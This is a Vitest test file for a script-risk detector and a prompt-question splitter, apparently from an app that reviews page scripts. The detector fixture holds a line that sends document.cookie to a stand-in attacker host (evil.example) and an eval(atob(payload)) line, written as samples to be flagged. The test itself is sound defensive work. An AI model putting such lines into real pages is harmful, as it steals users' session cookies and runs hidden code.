import { describe, expect, it } from 'vitest';
import { findRisks } from '../../renderer/src/cards/risky.js';
import { splitQuestion } from '../../renderer/src/cards/Prompt.js';

describe('the risky calls a page script is read for', () => {
  it('names each line that reaches beyond the page, a request that changes data above all', () => {
    const script = [
      'const r = await fetch("/api/items");',
      'const x = new XMLHttpRequest(); x.open("DELETE", "/api/items/7");',
      'localStorage.setItem("token", t);',
      'location.href = "https://evil.example/?c=" + document.cookie;',
      'eval(atob(payload));',
      'return document.title;',
    ].join('\n');
    expect(findRisks(script)).toEqual([
      { line: 1, what: 'network' },
      { line: 2, what: 'changesXhr' },
      { line: 3, what: 'storage' },
      { line: 4, what: 'cookies' },
      { line: 4, what: 'navigates' },
      { line: 5, what: 'builds' },
    ]);
  });

  it('finds nothing in a script that only reads the page', () => {
    expect(findRisks('return [...document.querySelectorAll("h1")].map((h) => h.textContent);')).toEqual([]);
  });
});

describe('the question of a long prompt', () => {
  it('is its last paragraph, or the last line of a long one, and none when it ends in code', () => {
    expect(splitQuestion('Context.\n\nMore context.\n\nShip it?')).toEqual({
      head: 'Context.\n\nMore context.\n\n',
      question: 'Ship it?',
    });
    const long = `${'word '.repeat(100)}\nWhich one?`;
    expect(splitQuestion(`Intro.\n\n${long}`).question).toBe('Which one?');
    expect(splitQuestion('Look:\n\n```\ncode\n```').question).toBe('');
  });
});
